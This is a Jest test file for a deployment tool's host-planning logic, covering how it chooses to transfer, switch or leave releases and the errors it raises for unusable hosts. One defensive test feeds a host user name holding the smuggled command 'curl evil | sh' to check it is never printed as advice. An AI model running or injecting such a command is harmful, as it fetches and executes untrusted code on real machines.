import { describe, expect, it } from '@jest/globals'
import type { HostState } from '../../../src/deploy/host/state.ts'
import { planHost } from '../../../src/deploy/host-plan.ts'
import { manifestOf } from '../../../src/deploy/manifest.ts'
import type { HostOrder, Release, Strategy } from '../../../src/deploy/order.ts'
import { RemoteError } from '../../../src/kit/errors.ts'
import { kept } from './kept.ts'

const host: HostOrder = { name: 'web1', tags: [], owner: undefined, releases: '/data/releases', live: '/data/live' }
const manifest = manifestOf([{ kind: 'file', path: 'a', mode: 0o644, size: 10_000, digest: 'a'.repeat(64) }])
const release: Release = { name: 'v2-8', isNamed: false, version: 'v2', sha: 'abc', root: '/src', manifest, seeds: new Map(), time: 0 }
const same = { digest: manifest.digest }
const folder = { access: 'writable', detail: '/data' } as const

const stateOf = (facts: Partial<HostState> = {}): HostState => ({
  system: 'Linux',
  user: 'deploy',
  tools: new Set(['gzip', 'awk']),
  missingTools: [],
  releasesFolder: folder,
  liveFolder: folder,
  freeBytes: 1 << 30,
  freeInodes: 10_000,
  live: { kind: 'none' },
  liveRelease: undefined,
  releases: [],
  leftovers: [],
  shared: [],
  lock: undefined,
  ...facts,
})
const serving = (name: string, facts: Partial<HostState> = {}): HostState =>
  stateOf({ live: { kind: 'link', target: `/data/releases/${name}` }, liveRelease: name, ...facts })

const strategyOf = (facts: Partial<Strategy> = {}): Strategy => ({
  waves: [],
  pause: 0,
  parallel: 10,
  onHostFailure: 'rollback',
  maxFailed: { count: 0 },
  rollback: 'fleet',
  keep: 5,
  reuse: 'copy',
  shared: [],
  lockWait: 0,
  healthCheck: undefined,
  hooks: {},
  adopt: false,
  forceUnlock: false,
  ...facts,
})

describe('planHost', () => {
  const v2 = (facts = {}) => kept('v2-8', { ...same, ...facts })
  const v1 = kept('v1-7')
  it.each([
    { name: 'nothing is there', state: stateOf(), plan: { kind: 'transfer', bases: [] } },
    {
      name: 'it serves the release, and is well',
      state: serving('v2-8', { releases: [v2()] }),
      plan: { kind: 'unchanged', release: 'v2-8' },
    },
    {
      name: 'it serves the release, but nobody made sure',
      state: serving('v2-8', { releases: [v2({ standing: 'prepared' })] }),
      plan: { kind: 'settle' },
    },
    {
      name: 'it serves the release, which was found bad',
      state: serving('v2-8', { releases: [v2({ standing: 'failed' })] }),
      plan: { kind: 'settle' },
    },
    { name: 'it has the release', state: serving('v1-7', { releases: [v1, v2()] }), plan: { kind: 'switch' } },
    { name: 'it has the release, and no space', state: serving('v1-7', { releases: [v1, v2()], freeBytes: 0 }), plan: { kind: 'switch' } },
    {
      name: 'it serves the same content and version under another name',
      state: serving('v2-7', { releases: [kept('v2-7', { ...same, version: 'v2' })] }),
      plan: { kind: 'unchanged', release: 'v2-7' },
    },
    {
      name: 'it serves the same content of another version',
      state: serving('v1-7', { releases: [kept('v1-7', { ...same, version: 'v1' })] }),
      plan: { kind: 'transfer' },
    },
    {
      name: 'it serves the same under another name, found bad',
      state: serving('v2-7', { releases: [kept('v2-7', { ...same, version: 'v2', standing: 'failed' })] }),
      plan: { kind: 'transfer' },
    },
    {
      name: 'the disk does not tell its size',
      state: stateOf({ freeBytes: undefined, freeInodes: undefined }),
      plan: { kind: 'transfer' },
    },
  ])('$name', ({ state, plan }) => {
    expect(planHost(state, host, release, strategyOf())).toMatchObject(plan)
  })

  it('sends a release whose name was asked for, though the same is live under another', () => {
    const state = serving('v2-7', { releases: [kept('v2-7', { ...same, version: 'v2' })] })
    expect(planHost(state, host, { ...release, isNamed: true }, strategyOf())).toMatchObject({ kind: 'transfer' })
  })

  it('builds on the same content first, then on what is live, then on the newest', () => {
    const releases = [
      kept('old', { since: '2026-01' }),
      kept('new', { since: '2026-03' }),
      kept('live', { since: '2026-02' }),
      kept('same', { ...same, since: '2025' }),
    ]
    const plan = planHost(serving('live', { releases }), host, { ...release, isNamed: true }, strategyOf())
    expect(plan.kind === 'transfer' && plan.bases.map(({ name }) => name)).toEqual(['same', 'live', 'new', 'old'])
  })

  it('lets a folder at the live path step aside when told so', () => {
    expect(planHost(stateOf({ live: { kind: 'folder' } }), host, release, strategyOf({ adopt: true })).kind).toBe('transfer')
  })

  it.each([
    {
      name: 'seeds of the source',
      shared: [{ path: '.env', makeFolder: false }],
      seeds: new Map([['.env', manifest.entries]]),
      present: [false],
    },
    { name: 'a folder to be made', shared: [{ path: 'cache', makeFolder: true }], seeds: new Map(), present: [false] },
    { name: 'a path that is there', shared: [{ path: '.env', makeFolder: false }], seeds: new Map(), present: [true] },
  ])('takes $name for a shared path', ({ shared, seeds, present }) => {
    expect(planHost(stateOf({ shared: present }), host, { ...release, seeds }, strategyOf({ shared })).kind).toBe('transfer')
  })

  const refusals = [
    { name: 'Windows', state: stateOf({ system: 'MINGW64_NT-10.0' }), code: 'not-supported', says: 'runs Windows' },
    { name: 'missing tools', state: stateOf({ missingTools: ['tar', 'find'] }), code: 'host-tools', says: 'lacks tar, find' },
    {
      name: 'releases that may not be written',
      state: stateOf({ releasesFolder: { access: 'denied', detail: 'drwxr-xr-x root' } }),
      code: 'host-permission',
      says: '/data/releases on web1: drwxr-xr-x root',
    },
    {
      name: 'a file in the way of the live folder',
      state: stateOf({ liveFolder: { access: 'blocked', detail: '/data' } }),
      code: 'host-permission',
      says: 'deploy may not write to /data on web1',
    },
    {
      name: 'a folder at the live path',
      state: stateOf({ live: { kind: 'folder' } }),
      code: 'live-is-directory',
      says: 'is a real folder',
    },
    { name: 'a file at the live path', state: stateOf({ live: { kind: 'file' } }), code: 'live-is-directory', says: 'is a file' },
    { name: 'other content under the name', state: stateOf({ releases: [kept('v2-8')] }), code: 'release-differs', says: 'other content' },
    {
      name: 'other content under the live name',
      state: serving('v2-8', { releases: [kept('v2-8')] }),
      code: 'release-differs',
      says: 'other content',
    },
    { name: 'too little space', state: stateOf({ freeBytes: 12_287 }), code: 'no-space', says: 'the release needs 0.0 MiB' },
    { name: 'too few inodes', state: stateOf({ freeInodes: 3 }), code: 'no-space', says: '3 inodes free' },
  ]
  it.each(refusals)('refuses $name', ({ state, code, says }) => {
    const attempt = () => planHost(state, host, release, strategyOf())
    expect(attempt).toThrow(RemoteError)
    expect(attempt).toThrow(expect.objectContaining({ code, party: 'web1', message: expect.stringContaining(says) }))
  })

  it('refuses a file at the live path though folders may step aside', () => {
    expect(() => planHost(stateOf({ live: { kind: 'file' } }), host, release, strategyOf({ adopt: true }))).toThrow(/is a file/)
  })

  it('refuses a shared path that neither host nor source has', () => {
    const strategy = strategyOf({ shared: [{ path: '.env', makeFolder: false }] })
    expect(() => planHost(stateOf({ shared: [false] }), host, release, strategy)).toThrow(
      expect.objectContaining({ code: 'shared-missing' }),
    )
  })

  it('never prints what a host calls itself as a command to copy', () => {
    const state = stateOf({ user: 'x; curl evil | sh', liveFolder: { access: 'denied', detail: '' } })
    const fault = (() => {
      try {
        return planHost(state, host, release, strategyOf())
      } catch (error) {
        return error as RemoteError
      }
    })() as RemoteError
    expect(fault.remedy?.en).not.toContain('curl')
    expect(fault.remedy?.['zh-CN']).not.toContain('curl')
  })
})
